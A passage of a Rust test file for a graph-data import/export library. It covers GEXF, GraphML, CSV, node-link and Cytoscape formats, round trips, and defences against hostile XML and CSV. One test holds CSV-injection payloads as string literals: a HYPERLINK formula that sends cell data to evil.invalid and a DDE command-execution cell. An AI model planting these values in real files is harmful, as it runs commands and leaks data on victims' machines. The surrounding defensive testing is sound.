@@ -1,0 +1,1002 @@
+//! Importing GEXF, GraphML, CSV, node-link and Cytoscape.js files, exporting GEXF, GraphML
+//! and node-link JSON, the round trips through each, and hostile or broken files.
+
+use std::path::{Path, PathBuf};
+
+use powermap::dataset::load_default_network;
+use powermap::interop::{
+    ConvertError, ExportError, ExportFormat, Finding, Format, ImportError, Imported, MAX_DEPTH,
+    Place, convert, detect_format, export_network, export_to_string, import_bytes,
+    import_csv_tables, import_file,
+};
+use powermap::load::load_file;
+use powermap::model::{EntityKind, Network, Position, TieKind};
+use powermap::save::{Overwrite, SaveError, save_network};
+
+fn fixture(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/interop")
+        .join(name)
+}
+
+fn import(name: &str) -> Imported {
+    import_file(&fixture(name)).unwrap_or_else(|err| panic!("{name}: {err}"))
+}
+
+fn import_error(name: &str) -> ImportError {
+    match import_file(&fixture(name)) {
+        Ok(imported) => panic!("{name} imported:\n{}", imported.report),
+        Err(err) => err,
+    }
+}
+
+fn name(network: &Network, id: &str, language: &str) -> String {
+    let entity = network
+        .entity(id)
+        .unwrap_or_else(|| panic!("no entity {id}"));
+    entity
+        .name
+        .get(language)
+        .unwrap_or_else(|| panic!("{id} has no {language} name: {:?}", entity.name))
+        .clone()
+}
+
+fn date(network: &Network, tie: &str) -> Option<String> {
+    network
+        .tie(tie)
+        .unwrap_or_else(|| panic!("no tie {tie}"))
+        .date
+        .map(|date| date.to_string())
+}
+
+fn attribute<'a>(attributes: &'a powermap::model::Attributes, name: &str) -> Option<&'a str> {
+    attributes.get(name).map(String::as_str)
+}
+
+// --- GEXF ---
+
+#[test]
+fn gexf_1_2_from_gephi() {
+    let Imported {
+        network,
+        report,
+        format,
+    } = import("gephi-1.2.gexf");
+    assert_eq!(format, Format::Gexf);
+    assert_eq!(report.format_version.as_deref(), Some("1.2"));
+    assert_eq!(network.description, "Chip deals, autumn 2025");
+    assert_eq!(
+        network.title, "gephi-1.2",
+        "GEXF has no title: the file name gives it"
+    );
+    assert_eq!(name(&network, "lee", "ko"), "이재용");
+    assert_eq!(name(&network, "openai", "en"), "OpenAI");
+    let kinds: Vec<EntityKind> = network.entities.iter().map(|e| e.kind).collect();
+    assert_eq!(
+        kinds,
+        [EntityKind::Person, EntityKind::Company, EntityKind::Company]
+    );
+    let lee = network.entity("lee").expect("lee");
+    assert_eq!(
+        lee.position,
+        Some(Position {
+            x: -120.5,
+            y: 44.25
+        })
+    );
+    assert_eq!(attribute(&lee.attributes, "color"), Some("#1f77b4"));
+    assert_eq!(attribute(&lee.attributes, "size"), Some("20.0"));
+    assert_eq!(
+        attribute(&lee.attributes, "country"),
+        Some("KR"),
+        "default value"
+    );
+    assert_eq!(attribute(&lee.attributes, "Modularity Class"), Some("0"));
+    let openai = network.entity("openai").expect("openai");
+    assert_eq!(attribute(&openai.attributes, "country"), Some("US"));
+
+    let meeting = network.tie("0").expect("tie 0");
+    assert_eq!(meeting.kind, TieKind::Meeting);
+    assert_eq!(meeting.participants, ["lee", "openai"]);
+    assert_eq!(date(&network, "0").as_deref(), Some("2025-10-01"));
+    assert!(
+        !meeting.attributes.contains_key("weight"),
+        "GEXF's default weight"
+    );
+    let mou = network.tie("1").expect("tie 1");
+    assert_eq!(mou.kind, TieKind::LetterOfIntent);
+    assert_eq!(date(&network, "1").as_deref(), Some("2025-10"));
+    assert_eq!(attribute(&mou.attributes, "weight"), Some("3.0"));
+    assert_eq!(
+        attribute(&mou.attributes, "note"),
+        Some("Stargate & data centres")
+    );
+    let other = network.tie("2").expect("tie 2");
+    assert_eq!(other.kind, TieKind::Other);
+    assert_eq!(
+        attribute(&other.attributes, "label"),
+        Some("chairman of the group")
+    );
+
+    assert_eq!(report.counts.entities, 3);
+    assert_eq!(report.counts.ties, 3);
+    assert_eq!(report.counts.positions, 3);
+    assert_eq!(report.counts.tie_kinds, 2);
+    assert_eq!(report.counts.dates, 2);
+    assert_eq!(report.entity_attributes.get("country"), Some(&3));
+    assert_eq!(
+        network.label_language, "en",
+        "two labels of three are English"
+    );
+    let text = report.to_string();
+    assert!(text.contains("3 ties have no evidence"), "{text}");
+    assert_eq!(text.matches("no evidence").count(), 1, "said once: {text}");
+}
+
+#[test]
+fn gexf_1_3_dynamics_become_dates_where_they_fit() {
+    let Imported {
+        network, report, ..
+    } = import("dynamic-1.3.gexf");
+    assert_eq!(report.format_version.as_deref(), Some("1.3"));
+    assert_eq!(date(&network, "month").as_deref(), Some("2025-07"));
+    assert!(network.tie("month").expect("month").attributes.is_empty());
+    assert_eq!(date(&network, "day").as_deref(), Some("2025-06-13"));
+    assert_eq!(report.count(Finding::TimeOfDay), 1, "09:30 was cut");
+    assert_eq!(date(&network, "year").as_deref(), Some("2024"));
+    // Two spells are not one date: the earliest start is, and the spells stay.
+    let spells = network.tie("spells").expect("spells");
+    assert_eq!(date(&network, "spells").as_deref(), Some("2020-01-01"));
+    assert!(spells.attributes.contains_key("spells"));
+    assert_eq!(attribute(&spells.attributes, "stake"), Some("0.5"));
+    assert_eq!(report.count(Finding::LaterValue), 1, "the later stake");
+    assert_eq!(date(&network, "stamps").as_deref(), Some("2025-06-13"));
+    assert_eq!(
+        network.tie("stamps").expect("stamps").kind,
+        TieKind::Meeting
+    );
+    let tesla = network.entity("a").expect("a");
+    assert_eq!(
+        attribute(&tesla.attributes, "start"),
+        Some("2003-07-01"),
+        "entities have no dates: node times stay attributes"
+    );
+    assert_eq!(network.tie("month").expect("month").kind, TieKind::Supply);
+    assert_eq!(network.tie("year").expect("year").kind, TieKind::Role);
+    assert!(report.notes.iter().any(|note| note.contains("dynamic")));
+}
+
+#[test]
+fn gexf_1_2_dynamics_with_numeric_times() {
+    let Imported {
+        network, report, ..
+    } = import("dynamic-1.2.gexf");
+    assert_eq!(report.format_version.as_deref(), Some("1.2"));
+    assert_eq!(
+        network.label_language, "ko",
+        "two labels of three are Korean"
+    );
+    let years = network.tie("years").expect("years");
+    assert_eq!(
+        years.kind,
+        TieKind::Role,
+        "employment, read from `relation`"
+    );
+    assert_eq!(
+        date(&network, "years").as_deref(),
+        Some("2020"),
+        "a whole year as a double"
+    );
+    assert!(years.attributes.is_empty(), "{:?}", years.attributes);
+    let ticks = network.tie("ticks").expect("ticks");
+    assert_eq!(ticks.kind, TieKind::Partnership, "alliance");
+    assert_eq!(ticks.date, None, "3.5 is not a date");
+    assert_eq!(attribute(&ticks.attributes, "start"), Some("3.5"));
+    assert_eq!(attribute(&ticks.attributes, "end"), Some("4.0"));
+    assert_eq!(report.count(Finding::UnreadableValue), 1);
+    assert!(
+        report.findings[&Finding::UnreadableValue].examples[0].contains("\"3.5\" is not a date"),
+        "{report}"
+    );
+    assert_eq!(
+        date(&network, "slices").as_deref(),
+        Some("2025"),
+        "GEXF 1.1 slices"
+    );
+    assert!(
+        report
+            .notes
+            .iter()
+            .any(|note| note.contains("time format double"))
+    );
+}
+
+// --- GraphML ---
+
+#[test]
+fn graphml_from_gephi() {
+    let Imported {
+        network,
+        report,
+        format,
+    } = import("gephi.graphml");
+    assert_eq!(format, Format::GraphMl);
+    let byd = network.entity("byd").expect("byd");
+    assert_eq!(byd.kind, EntityKind::Company, "organisation");
+    assert_eq!(byd.position, Some(Position { x: -55.0, y: 12.5 }));
+    assert_eq!(attribute(&byd.attributes, "color"), Some("#2ca02c"));
+    assert_eq!(name(&network, "sem", "ko"), "삼성전기");
+    let role = network.tie("0").expect("0");
+    assert_eq!(role.kind, TieKind::Role, "works_at");
+    assert_eq!(role.participants, ["wang", "byd"]);
+    let supply = network.tie("1").expect("1");
+    assert_eq!(supply.kind, TieKind::Supply);
+    assert_eq!(date(&network, "1").as_deref(), Some("2024"));
+    assert_eq!(attribute(&supply.attributes, "weight"), Some("2.0"));
+    assert!(report.notes.iter().any(|note| note.contains("directed")));
+}
+
+#[test]
+fn graphml_from_yed() {
+    let Imported {
+        network, report, ..
+    } = import("yed.graphml");
+    assert_eq!(name(&network, "n0", "en"), "Lee Jae-yong");
+    let lee = network.entity("n0").expect("n0");
+    assert_eq!(
+        lee.position,
+        Some(Position { x: 160.0, y: 215.0 }),
+        "the box's centre"
+    );
+    assert_eq!(attribute(&lee.attributes, "color"), Some("#FFCC00"));
+    assert_eq!(
+        attribute(&lee.attributes, "description"),
+        Some("Samsung's chairman")
+    );
+    assert_eq!(name(&network, "n1", "en"), "Meta group");
+    let zuckerberg = network.entity("n1::n0").expect("nested node");
+    assert_eq!(attribute(&zuckerberg.attributes, "parent"), Some("n1"));
+    let meeting = network.tie("e0").expect("e0");
+    assert_eq!(meeting.kind, TieKind::Meeting);
+    assert_eq!(
+        attribute(&meeting.attributes, "description"),
+        Some("Seoul, Leeum museum")
+    );
+    assert_eq!(report.counts.positions, 3);
+}
+
+#[test]
+fn graphml_from_graph_tool() {
+    let Imported {
+        network, report, ..
+    } = import("graph-tool.graphml");
+    assert_eq!(network.title, "qualcomm ties");
+    let qualcomm = network.entity("qualcomm").expect("the original id");
+    assert_eq!(qualcomm.position, Some(Position { x: 100.0, y: -10.0 }));
+    assert_eq!(qualcomm.kind, EntityKind::Company);
+    let role = network.tie("amon-ceo").expect("the original edge id");
+    assert_eq!(role.participants, ["amon", "qualcomm"]);
+    assert_eq!(role.kind, TieKind::Role);
+    assert_eq!(attribute(&role.attributes, "strength"), Some("0.75"));
+    assert!(report.notes.iter().any(|note| note.contains("graph-tool")));
+}
+
+// --- CSV ---
+
+#[test]
+fn csv_edges_table_finds_its_nodes_table_beside_it() {
+    let edges = fixture("csv-gephi/network [Edges].csv");
+    let Imported {
+        network,
+        report,
+        format,
+    } = import_file(&edges).expect("imports");
+    assert_eq!(format, Format::Csv);
+    assert_eq!(
+        report.nodes_table.as_deref(),
+        Some(fixture("csv-gephi/network [Nodes].csv").as_path())
+    );
+    assert!(
+        report.encoding.contains("byte order mark"),
+        "{}",
+        report.encoding
+    );
+    assert!(
+        report.notes.iter().any(|note| note.contains("semicolons")),
+        "{:?}",
+        report.notes
+    );
+    assert_eq!(network.entities.len(), 5);
+    assert_eq!(name(&network, "lee", "ko"), "이재용");
+    assert_eq!(
+        network.entity("huang").expect("huang").kind,
+        EntityKind::Person
+    );
+    assert_eq!(
+        network.entity("nvidia").expect("nvidia").kind,
+        EntityKind::Company
+    );
+    assert_eq!(
+        attribute(
+            &network.entity("lee").expect("lee").attributes,
+            "Affiliation"
+        ),
+        Some("Samsung")
+    );
+    let chimaek = network.tie("chimaek").expect("the Id column");
+    assert_eq!(chimaek.kind, TieKind::Meeting);
+    assert_eq!(date(&network, "chimaek").as_deref(), Some("2025-10-30"));
+    assert_eq!(
+        attribute(&chimaek.attributes, "Note"),
+        Some("fried chicken; beer")
+    );
+    assert_eq!(attribute(&chimaek.attributes, "Weight"), Some("1"));
+    assert!(
+        !chimaek.attributes.contains_key("Type"),
+        "the direction is not an attribute"
+    );
+    assert_eq!(network.tie("e1").expect("generated").kind, TieKind::Supply);
+    assert_eq!(
+        network.tie("e2").expect("generated").kind,
+        TieKind::LetterOfIntent
+    );
+    assert_eq!(date(&network, "e2").as_deref(), Some("2025-10-31"));
+    assert_eq!(report.count(Finding::TimeOfDay), 1);
+    assert_eq!(report.count(Finding::MissingNode), 1, "lee → ghost");
+    assert!(
+        report.findings[&Finding::MissingNode].examples[0].contains("line 5"),
+        "{report}"
+    );
+    assert_eq!(network.ties.len(), 3);
+
+    // The same, asked for explicitly.
+    let explicit = import_csv_tables(Some(&fixture("csv-gephi/network [Nodes].csv")), &edges)
+        .expect("imports");
+    assert_eq!(explicit.network, network);
+    // And from the nodes table's side.
+    let from_nodes = import("csv-gephi/network [Nodes].csv");
+    assert_eq!(from_nodes.network.ties.len(), 3);
+}
+
+#[test]
+fn csv_edges_table_alone_makes_its_entities() {
+    let Imported {
+        network, report, ..
+    } = import("csv-edges-only/edges.csv");
+    assert_eq!(report.nodes_table, None);
+    assert!(
+        report
+            .notes
+            .iter()
+            .any(|note| note.contains("no nodes table")),
+        "{report}"
+    );
+    let ids: Vec<&str> = network.entities.iter().map(|e| e.id.as_str()).collect();
+    assert_eq!(ids, ["Samsung C&T", "OpenAI", "Samsung Heavy Industries"]);
+    assert_eq!(name(&network, "OpenAI", "en"), "OpenAI");
+    assert_eq!(report.counts.names, 0, "named by their ids");
+    assert!(
+        network
+            .ties
+            .iter()
+            .all(|tie| tie.kind == TieKind::LetterOfIntent)
+    );
+    assert_eq!(report.count(Finding::SelfLoop), 1);
+
+    let without = import_csv_tables(None, &fixture("csv-edges-only/edges.csv")).expect("imports");
+    assert_eq!(without.network, network);
+}
+
+#[test]
+fn csv_in_euc_kr_is_detected_and_reported() {
+    let Imported {
+        network, report, ..
+    } = import("csv-euc-kr/edges.csv");
+    assert_eq!(report.encoding, "EUC-KR (CP949)");
+    assert_eq!(name(&network, "이재용", "ko"), "이재용");
+    assert_eq!(network.label_language, "ko");
+    let meeting = network.tie("e0").expect("e0");
+    assert_eq!(meeting.kind, TieKind::Meeting, "회동");
+    assert_eq!(date(&network, "e0").as_deref(), Some("2025-10-01"), "날짜");
+    assert_eq!(
+        attribute(&meeting.attributes, "메모"),
+        Some("서울 삼성전자 서초사옥")
+    );
+    assert_eq!(
+        network.tie("e1").expect("e1").kind,
+        TieKind::Contract,
+        "계약"
+    );
+    assert!(report.to_string().contains("EUC-KR"));
+}
+
+#[test]
+fn csv_in_utf16_with_tabs() {
+    let Imported {
+        network, report, ..
+    } = import("csv-utf16/nodes.csv");
+    assert_eq!(report.encoding, "UTF-16LE");
+    assert_eq!(network.entities.len(), 2);
+    assert_eq!(name(&network, "b", "ko"), "삼성");
+    assert_eq!(network.entity("a").expect("a").kind, EntityKind::Person);
+    assert!(network.ties.is_empty());
+    assert!(
+        report
+            .notes
+            .iter()
+            .any(|note| note.contains("no edges table"))
+    );
+}
+
+// --- node-link JSON ---
+
+#[test]
+fn node_link_with_indexes() {
+    let Imported {
+        network,
+        report,
+        format,
+    } = import("d3-index.json");
+    assert_eq!(format, Format::NodeLink);
+    assert_eq!(name(&network, "0", "en"), "Lee Jae-yong");
+    assert_eq!(network.entity("2").expect("2").kind, EntityKind::Company);
+    let meeting = network.tie("e0").expect("e0");
+    assert_eq!(meeting.participants, ["0", "1"]);
+    assert_eq!(meeting.kind, TieKind::Meeting);
+    assert_eq!(date(&network, "e0").as_deref(), Some("2025-10-01"));
+    assert_eq!(attribute(&meeting.attributes, "value"), Some("3"));
+    assert_eq!(
+        network.tie("e1").expect("e1").kind,
+        TieKind::Role,
+        "employment"
+    );
+    assert_eq!(report.count(Finding::MissingNode), 1, "index 7");
+    assert_eq!(
+        attribute(&network.entity("0").expect("0").attributes, "group"),
+        Some("1"),
+        "a d3 group is not a powermap group"
+    );
+    assert!(report.notes.iter().any(|note| note.contains("index")));
+}
+
+#[test]
+fn node_link_with_ids_from_networkx() {
+    let Imported {
+        network, report, ..
+    } = import("networkx-ids.json");
+    assert_eq!(network.title, "Qualcomm and Samsung");
+    assert_eq!(name(&network, "2", "ko"), "삼성전자");
+    assert_eq!(
+        network.entity("2").expect("2").position,
+        Some(Position { x: 0.5, y: -1.25 })
+    );
+    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
+    assert_eq!(
+        name(&network, "3", "en"),
+        "Cristiano Amon",
+        "the first is kept"
+    );
+    let kinds: Vec<TieKind> = network.ties.iter().map(|tie| tie.kind).collect();
+    assert_eq!(
+        kinds,
+        [TieKind::Role, TieKind::Supply, TieKind::Partnership]
+    );
+    assert_eq!(network.ties[0].participants, ["3", "1"]);
+    assert_eq!(
+        attribute(&network.ties[0].attributes, "since"),
+        Some("2021")
+    );
+    assert_eq!(date(&network, "e2").as_deref(), Some("2024-02"));
+    assert!(
+        report.count(Finding::Ignored) >= 1,
+        "graph.source is not read"
+    );
+}
+
+// --- Cytoscape.js ---
+
+#[test]
+fn cytoscape_object_form_from_cytoscape_desktop() {
+    let Imported {
+        network,
+        report,
+        format,
+    } = import("cytoscape-object.cyjs");
+    assert_eq!(format, Format::Cytoscape);
+    assert_eq!(network.title, "Amazon deals");
+    assert_eq!(name(&network, "101", "en"), "Andy Jassy");
+    let jassy = network.entity("101").expect("101");
+    assert_eq!(jassy.position, Some(Position { x: -40.5, y: 12.0 }));
+    assert_eq!(jassy.kind, EntityKind::Person);
+    assert_eq!(attribute(&jassy.attributes, "SUID"), Some("101"));
+    assert_eq!(network.entity("103").expect("103").position, None);
+    assert_eq!(report.count(Finding::UnreadablePosition), 1);
+    assert_eq!(network.tie("201").expect("201").kind, TieKind::Role);
+    let deal = network.tie("202").expect("202");
+    assert_eq!(deal.kind, TieKind::Partnership);
+    assert_eq!(date(&network, "202").as_deref(), Some("2025-03"));
+    assert_eq!(attribute(&deal.attributes, "classes"), Some("deal"));
+}
+
+#[test]
+fn cytoscape_array_form() {
+    let Imported {
+        network, format, ..
+    } = import("cytoscape-array.json");
+    assert_eq!(format, Format::Cytoscape);
+    assert_eq!(
+        network.entities.len(),
+        3,
+        "a node listed after the edges still counts"
+    );
+    let jassy = network.entity("jassy").expect("jassy");
+    assert!(jassy.pinned, "locked");
+    assert_eq!(
+        network.tie("e2").expect("e2").participants,
+        ["amazon", "samsung"]
+    );
+    assert_eq!(name(&network, "samsung", "ko"), "삼성전자");
+}
+
+// --- recognising formats ---
+
+#[test]
+fn formats_are_recognised_by_content_whatever_the_name() {
+    for (name, format) in [
+        ("gephi-1.2.gexf", Format::Gexf),
+        ("yed.graphml", Format::GraphMl),
+        ("d3-index.json", Format::NodeLink),
+        ("cytoscape-array.json", Format::Cytoscape),
+        ("csv-euc-kr/edges.csv", Format::Csv),
+    ] {
+        let bytes = std::fs::read(fixture(name)).expect("fixture");
+        assert_eq!(
+            detect_format(&bytes, Path::new("no-extension")),
+            Some(format),
+            "{name}"
+        );
+        let imported = import_bytes(&bytes, Path::new("no-extension")).expect("imports");
+        assert_eq!(imported.format, format, "{name}");
+    }
+    let powermap =
+        std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/examples/minimal.json"))
+            .expect("example");
+    assert_eq!(
+        detect_format(&powermap, Path::new("x")),
+        Some(Format::Powermap)
+    );
+}
+
+#[test]
+fn powermap_json_goes_to_powermaps_loader() {
+    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/examples/minimal.json");
+    let imported = import_file(&example).expect("imports");
+    assert_eq!(imported.format, Format::Powermap);
+    assert_eq!(
+        imported.network,
+        load_file(&example).expect("loads").network
+    );
+    assert_eq!(imported.report.counts.evidence, 2);
+    // Its diagnostics are the loader's own, with the JSON path.
+    let broken = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/unknown-entity.json");
+    match import_file(&broken) {
+        Err(ImportError::Powermap(load)) => {
+            assert!(
+                load.diagnostics()
+                    .iter()
+                    .any(|d| d.path.contains("participants")),
+                "{load}"
+            );
+        }
+        other => panic!("expected the loader's diagnostics, got {other:?}"),
+    }
+}
+
+#[test]
+fn unknown_formats_say_what_is_read() {
+    let error =
+        import_bytes(b"hello, world\nthis is text\n", Path::new("notes.txt")).expect_err("unknown");
+    assert!(
+        matches!(error, ImportError::UnknownFormat { .. }),
+        "{error}"
+    );
+    assert!(error.to_string().contains("GEXF"), "{error}");
+}
+
+// --- hostile and broken files ---
+
+#[test]
+fn billion_laughs_is_refused_without_expanding() {
+    let error = import_error("hostile/billion-laughs.gexf");
+    assert!(matches!(error, ImportError::Refused { .. }), "{error}");
+    let text = error.to_string();
+    assert!(text.contains("billion-laughs.gexf"), "{text}");
+    assert!(text.contains("line 2"), "{text}");
+    assert!(text.contains("<!ENTITY"), "{text}");
+}
+
+#[test]
+fn external_entities_are_refused() {
+    let error = import_error("hostile/external-entity.graphml");
+    assert!(matches!(error, ImportError::Refused { .. }), "{error}");
+    assert!(
+        !error.to_string().contains("root:"),
+        "nothing was read from /etc/passwd"
+    );
+}
+
+#[test]
+fn external_dtds_are_never_fetched() {
+    // The port is closed: fetching would fail or hang; the DTD is ignored instead.
+    let Imported {
+        network, report, ..
+    } = import("hostile/external-dtd.graphml");
+    assert_eq!(network.entities.len(), 2);
+    assert_eq!(report.count(Finding::Ignored), 1);
+    assert!(report.findings[&Finding::Ignored].examples[0].contains("DOCTYPE"));
+    // An entity the DTD would define is an error, not a lookup.
+    let error = import_error("hostile/undefined-entity.gexf");
+    let text = error.to_string();
+    assert!(text.contains("nbsp"), "{text}");
+    assert!(text.contains("line 7"), "{text}");
+}
+
+#[test]
+fn truncated_files_are_located_errors() {
+    let error = import_error("hostile/truncated.gexf");
+    assert!(matches!(error, ImportError::Malformed { .. }), "{error}");
+    let text = error.to_string();
+    assert!(text.contains("truncated"), "{text}");
+    assert!(text.contains("truncated.gexf"), "{text}");
+    let error = import_error("hostile/truncated.json");
+    match &error {
+        ImportError::Malformed {
+            place: Place::Text { line, .. },
+            ..
+        } => assert_eq!(*line, 3, "{error}"),
+        other => panic!("expected a located error, got {other}"),
+    }
+}
+
+#[test]
+fn ragged_csv_rows_name_their_line() {
+    let error = import_error("hostile/ragged.csv");
+    match &error {
+        ImportError::Malformed { place, message, .. } => {
+            assert_eq!(*place, Place::Line(3), "{error}");
+            assert!(message.contains("4 cells"), "{message}");
+        }
+        other => panic!("expected a ragged row, got {other}"),
+    }
+}
+
+#[test]
+fn formula_cells_stay_plain_text() {
+    let Imported {
+        network, report, ..
+    } = import("hostile/formulas.csv");
+    assert_eq!(
+        name(&network, "a", "en"),
+        "=HYPERLINK(\"http://evil.invalid/?\"&A1)"
+    );
+    let b = network.entity("b").expect("b");
+    assert_eq!(
+        attribute(&b.attributes, "Website"),
+        Some("+cmd|' /C calc'!A0")
+    );
+    assert_eq!(attribute(&b.attributes, "Score"), Some("+7"));
+    assert_eq!(report.count(Finding::FormulaCell), 5, "{report}");
+    assert!(report.to_string().contains("never evaluated"));
+}
+
+#[test]
+fn missing_nodes_and_duplicates_are_reported_and_the_rest_opens() {
+    let Imported {
+        network, report, ..
+    } = import("hostile/missing-nodes.graphml");
+    assert_eq!(network.entities.len(), 2);
+    assert_eq!(name(&network, "a", "en"), "Ada", "the first is kept");
+    assert_eq!(network.ties.len(), 1);
+    assert_eq!(network.ties[0].participants, ["a", "b"]);
+    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
+    assert_eq!(report.count(Finding::DuplicateTieId), 1);
+    assert_eq!(report.count(Finding::MissingNode), 2);
+    assert_eq!(report.count(Finding::SelfLoop), 1);
+    assert_eq!(report.count(Finding::MissingEndpoint), 1);
+    let text = report.to_string();
+    assert!(text.contains("no node \"x\""), "{text}");
+    assert!(text.contains("line 10"), "{text}");
+
+    let Imported {
+        network, report, ..
+    } = import("hostile/duplicate-ids.json");
+    assert_eq!(network.entities.len(), 2);
+    assert_eq!(network.ties.len(), 1);
+    assert_eq!(
+        network.ties[0].kind,
+        TieKind::Other,
+        "the first edge is kept"
+    );
+    assert_eq!(report.count(Finding::DuplicateEntityId), 1);
+    assert_eq!(report.count(Finding::DuplicateTieId), 1);
+    assert!(report.findings[&Finding::DuplicateEntityId].examples[0].contains("nodes[1]"));
+}
+
+#[test]
+fn deep_nesting_is_refused_not_recursed() {
+    let folder = tempfile::tempdir().expect("tempdir");
+    let depth = 10_000;
+    let cases = [
+        (
+            "deep.gexf",
+            format!(
+                "<gexf version=\"1.3\"><graph><nodes><node id=\"a\">{}{}</node></nodes></graph></gexf>",
+                "<x>".repeat(depth),
+                "</x>".repeat(depth)
+            ),
+        ),
+        (
+            "deep.graphml",
+            format!(
+                "<graphml>{}{}</graphml>",
+                "<graph>".repeat(depth),
+                "</graph>".repeat(depth)
+            ),
+        ),
+        (
+            "deep.json",
+            format!(
+                "{{\"nodes\": [{{\"id\": \"a\", \"x\": {}{}}}], \"links\": []}}",
+                "[".repeat(depth),
+                "]".repeat(depth)
+            ),
+        ),
+        (
+            "deep-array.json",
+            format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
+        ),
+        (
+            "deep-powermap.json",
+            format!(
+                "{{\"format\": \"powermap\", \"version\": 1, \"entities\": {}{}}}",
+                "[".repeat(depth),
+                "]".repeat(depth)
+            ),
+        ),
+    ];
+    for (name, text) in cases {
+        let path = folder.path().join(name);
+        std::fs::write(&path, text).expect("write");
+        let error = import_file(&path).expect_err(name);
+        assert!(
+            matches!(error, ImportError::Refused { .. }),
+            "{name}: {error}"
+        );
+        assert!(
+            error
+                .to_string()
+                .contains(&format!("deeper than {MAX_DEPTH}")),
+            "{name}: {error}"
+        );
+    }
+}
+
+#[test]
+fn binary_files_are_not_text() {
+    let error = import_bytes(
+        &[0x89, b'P', b'N', b'G', 0xFF, 0x00, 0xFE],
+        Path::new("x.gexf"),
+    )
+    .expect_err("binary");
+    assert!(error.to_string().contains("0x"), "{error}");
+}
+
+// --- export and round trips ---
+
+fn default_network() -> Network {
+    load_default_network().expect("the default network").network
+}
+
+/// Sources and groups come back in the order ties and entities first use them.
+fn sorted(mut network: Network) -> Network {
+    network.sources.sort_by(|a, b| a.id.cmp(&b.id));
+    network.groups.sort_by(|a, b| a.id.cmp(&b.id));
+    network
+}
+
+fn round_trip(network: &Network, format: ExportFormat, name: &str) -> Imported {
+    let text = export_to_string(network, format).expect("exports");
+    import_bytes(text.as_bytes(), Path::new(name)).unwrap_or_else(|err| panic!("{name}: {err}"))
+}
+
+#[test]
+fn round_trips_keep_the_whole_default_network() {
+    let original = default_network();
+    assert!(
+        original.ties.iter().any(|tie| tie.participants.len() > 2),
+        "the default network has ties among three or more"
+    );
+    for (format, name) in [
+        (ExportFormat::GraphMl, "back.graphml"),
+        (ExportFormat::NodeLink, "back.nodelink.json"),
+        (ExportFormat::Gexf, "back.gexf"),
+    ] {
+        let Imported {
+            network, report, ..
+        } = round_trip(&original, format, name);
+        let mut expected = original.clone();
+        if format == ExportFormat::Gexf {
+            // GEXF has no place for a title: the file name gives it.
+            expected.title = "back".to_owned();
+        }
+        assert_eq!(network.entities, expected.entities, "{name}: entities");
+        assert_eq!(network.ties, expected.ties, "{name}: ties");
+        assert_eq!(
+            sorted(network.clone()),
+            sorted(expected),
+            "{name}: the rest"
+        );
+        assert_eq!(report.counts.evidence, original.ties.len(), "{name}");
+        assert!(report.findings.is_empty(), "{name}: {report}");
+        assert!(report.entity_attributes.is_empty(), "{name}: {report}");
+    }
+}
+
+#[test]
+fn round_trips_keep_positions_pins_attributes_and_awkward_text() {
+    let mut network = default_network();
+    let entity = &mut network.entities[0];
+    entity.position = Some(Position { x: -12.25, y: 1e-3 });
+    entity.pinned = true;
+    entity
+        .attributes
+        .insert("kind".into(), "a user's own \"kind\"".into());
+    entity
+        .attributes
+        .insert("note".into(), "line one\nline two\ttab <&>".into());
+    let tie = &mut network.ties[0];
+    tie.attributes
+        .insert("date".into(), "not the tie's date".into());
+    tie.attributes
+        .insert("attribute:x".into(), "prefixed already".into());
+    tie.summary = "quotes \" and ' and \r\n newlines".into();
+    for (format, name) in [
+        (ExportFormat::GraphMl, "t.graphml"),
+        (ExportFormat::NodeLink, "t.nodelink.json"),
+        (ExportFormat::Gexf, "t.gexf"),
+    ] {
+        let back = round_trip(&network, format, name).network;
+        assert_eq!(back.entities, network.entities, "{name}");
+        assert_eq!(back.ties, network.ties, "{name}");
+    }
+}
+
+#[test]
+fn exports_are_what_other_tools_read() {
+    let network = default_network();
+    let gexf = export_to_string(&network, ExportFormat::Gexf).expect("gexf");
+    let document = roxmltree::Document::parse(&gexf).expect("well-formed GEXF");
+    let root = document.root_element();
+    assert_eq!(root.tag_name().name(), "gexf");
+    assert_eq!(root.tag_name().namespace(), Some("http://gexf.net/1.3"));
+    assert_eq!(root.attribute("version"), Some("1.3"));
+    let edges = document
+        .descendants()
+        .filter(|node| node.has_tag_name(("http://gexf.net/1.3", "edge")))
+        .count();
+    assert!(
+        edges > network.ties.len(),
+        "ties among three or more are one edge per pair"
+    );
+    let dated = document
+        .descendants()
+        .find(|node| {
+            node.has_tag_name(("http://gexf.net/1.3", "edge")) && node.has_attribute("start")
+        })
+        .expect("dated edges carry their span for Gephi's timeline");
+    assert!(dated.attribute("end").is_some());
+
+    let graphml = export_to_string(&network, ExportFormat::GraphMl).expect("graphml");
+    let document = roxmltree::Document::parse(&graphml).expect("well-formed GraphML");
+    let ns = "http://graphml.graphdrawing.org/xmlns";
+    assert_eq!(document.root_element().tag_name().namespace(), Some(ns));
+    let nodes = document
+        .descendants()
+        .filter(|node| node.has_tag_name((ns, "node")))
+        .count();
+    assert_eq!(nodes, network.entities.len());
+
+    let node_link = export_to_string(&network, ExportFormat::NodeLink).expect("node-link");
+    let value: serde_json::Value = serde_json::from_str(&node_link).expect("JSON");
+    assert_eq!(value["directed"], false);
+    assert_eq!(
+        value["nodes"].as_array().map(Vec::len),
+        Some(network.entities.len())
+    );
+    let first = &value["links"][0];
+    assert!(first["source"].is_string() && first["target"].is_string());
+    assert!(
+        first["evidence"].is_array(),
+        "evidence is JSON, not a string, here"
+    );
+}
+
+#[test]
+fn convert_goes_through_files_and_back() {
+    let folder = tempfile::tempdir().expect("tempdir");
+    let original = folder.path().join("samsung.json");
+    save_network(&default_network(), &original, Overwrite::Refuse).expect("save");
+    for ending in ["gexf", "graphml", "nodelink.json"] {
+        let exported = folder.path().join(format!("samsung.{ending}"));
+        let report = convert(&original, &exported, Overwrite::Refuse).expect("to");
+        assert_eq!(report.format, Format::Powermap);
+        let back = folder
+            .path()
+            .join(format!("back-from-{}.json", ending.replace('.', "-")));
+        let report = convert(&exported, &back, Overwrite::Refuse).expect("back");
+        assert_ne!(report.format, Format::Powermap);
+        let back = load_file(&back)
+            .expect("the result opens in powermap")
+            .network;
+        let before = default_network();
